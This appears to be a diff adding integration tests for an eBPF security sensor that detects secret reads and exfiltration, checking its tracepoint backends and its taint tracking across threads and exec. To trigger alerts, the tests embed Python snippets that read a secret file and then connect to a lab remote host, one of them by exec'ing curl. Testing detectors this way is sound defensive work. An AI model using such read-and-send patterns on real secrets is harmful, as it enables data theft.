@@ -1,0 +1,119 @@
+//! The hook set is chosen at start-up: on a kernel with the page cache tracepoints, the
+//! steady state has no program on any syscall tracepoint, and the syscall programs that
+//! follow channels are attached only while some process is tainted. The syscall backend
+//! can be forced, and then keeps them attached.
+//!
+//! The detection suites run against both backends: `cargo xtask test` runs them a second time
+//! with `VIGIE_TEST_BACKEND=syscalls`.
+
+use std::collections::BTreeSet;
+use std::thread;
+use std::time::{Duration, Instant};
+
+use anyhow::{bail, Result};
+use integration_tests::bpf_objects::{attached_tracepoints, is_syscall_tracepoint};
+use integration_tests::{actor_exe, alert, Lab, Sensor, ALERT_TIMEOUT};
+use serde_json::Value;
+
+/// How long a tainted actor stays alive while the attachments are looked at.
+const HOLD: Duration = Duration::from_secs(4);
+/// How often the attachments are looked at while waiting for a change.
+const POLL: Duration = Duration::from_millis(20);
+
+fn backend(started: &Value) -> Option<&str> {
+    started.pointer("/vigie/backend/name").and_then(Value::as_str)
+}
+
+fn syscall_hooks(sensor: &Sensor) -> Result<BTreeSet<String>> {
+    Ok(attached_tracepoints(sensor.pid())?.into_iter().filter(|t| is_syscall_tracepoint(t)).collect())
+}
+
+/// Waits until the sensor's syscall hooks are attached (`true`) or not; fails after `timeout`.
+fn wait_for_syscall_hooks(sensor: &Sensor, attached: bool, timeout: Duration) -> Result<BTreeSet<String>> {
+    let deadline = Instant::now() + timeout;
+    loop {
+        let hooks = syscall_hooks(sensor)?;
+        if hooks.is_empty() != attached {
+            return Ok(hooks);
+        }
+        if Instant::now() > deadline {
+            bail!("syscall hooks still {hooks:?} after {timeout:?} (wanted attached: {attached})");
+        }
+        thread::sleep(POLL);
+    }
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn the_steady_state_has_no_syscall_tracepoint_and_taint_brings_them_for_its_lifetime() -> Result<()> {
+    let lab = Lab::new(actor_exe!())?;
+    let sensor = lab.sensor_with(&["--backend", "page-cache"])?;
+    let started = sensor.expect(alert::is_sensor_started, ALERT_TIMEOUT)?;
+    assert_eq!(backend(&started), Some("page-cache"), "{started:#}");
+    let steady = attached_tracepoints(sensor.pid())?;
+    assert!(steady.contains("mm_filemap_get_pages"), "the page cache programs are attached: {steady:?}");
+    assert!(!steady.iter().any(|t| is_syscall_tracepoint(t)), "no syscall tracepoint: {steady:?}");
+
+    let holder = lab.actor().read(lab.secret()).sleep(HOLD).spawn()?;
+    sensor.expect(alert::is_secret_read_by(holder.pid), ALERT_TIMEOUT)?;
+    let hooks = wait_for_syscall_hooks(&sensor, true, ALERT_TIMEOUT)?;
+    assert_eq!(hooks, BTreeSet::from(["sys_enter".to_owned(), "sys_exit".to_owned()]));
+    holder.finish()?;
+    wait_for_syscall_hooks(&sensor, false, ALERT_TIMEOUT)?;
+    Ok(())
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn the_syscall_backend_can_be_forced_and_keeps_its_hooks_attached() -> Result<()> {
+    let lab = Lab::new(actor_exe!())?;
+    let sensor = lab.sensor_with(&["--backend", "syscalls"])?;
+    let started = sensor.expect(alert::is_sensor_started, ALERT_TIMEOUT)?;
+    assert_eq!(backend(&started), Some("syscalls"), "{started:#}");
+    let reason = started.pointer("/vigie/backend/reason").and_then(Value::as_str).unwrap_or_default();
+    assert!(reason.contains("configuration"), "{started:#}");
+    assert_eq!(syscall_hooks(&sensor)?, BTreeSet::from(["sys_enter".to_owned(), "sys_exit".to_owned()]));
+    assert!(!attached_tracepoints(sensor.pid())?.contains("mm_filemap_get_pages"));
+
+    let thief = lab.actor().read(lab.secret()).tcp(lab.remote().tcp_v4()).run()?;
+    sensor.expect(alert::is_exfiltration_by(thief.pid), ALERT_TIMEOUT)?;
+    Ok(())
+}
+
+/// The threads of a process share its taint, whichever of them leaves first or execs.
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn taint_outlives_the_main_thread_and_survives_exec_from_another_thread() -> Result<()> {
+    let lab = Lab::new(actor_exe!())?;
+    let sensor = lab.sensor()?;
+    let remote = lab.remote().tcp_v4();
+    let secret = lab.secret().display().to_string();
+    // The main thread reads, then leaves with pthread_exit; a second thread sends later.
+    let main_leaves = format!(
+        "import ctypes, socket, threading, time\n\
+         open({secret:?}).read()\n\
+         def later():\n    time.sleep(0.3)\n    socket.create_connection(('{ip}', {port}), timeout=5).close()\n\
+         threading.Thread(target=later).start()\n\
+         ctypes.CDLL(None).pthread_exit(None)\n",
+        ip = remote.ip(),
+        port = remote.port()
+    );
+    let process = integration_tests::host_tools::run("python3", &["-c", &main_leaves])?;
+    sensor.expect(alert::is_exfiltration_by(process), ALERT_TIMEOUT)?;
+
+    // A second thread replaces the process with curl, which sends.
+    let thread_execs = format!(
+        "import os, threading\n\
+         open({secret:?}).read()\n\
+         t = threading.Thread(target=lambda: os.execv('/usr/bin/curl', ['curl', '-sS', '-o', '/dev/null', '--max-time', '5', 'http://{remote}/']))\n\
+         t.start()\n\
+         t.join()\n"
+    );
+    let process = integration_tests::host_tools::run("python3", &["-c", &thread_execs])?;
+    let alert = sensor.expect(alert::is_exfiltration_by(process), ALERT_TIMEOUT)?;
+    assert!(
+        integration_tests::host_tools::is_program(alert::process_executable(&alert), "curl"),
+        "{alert:#}"
+    );
+    Ok(())
+}
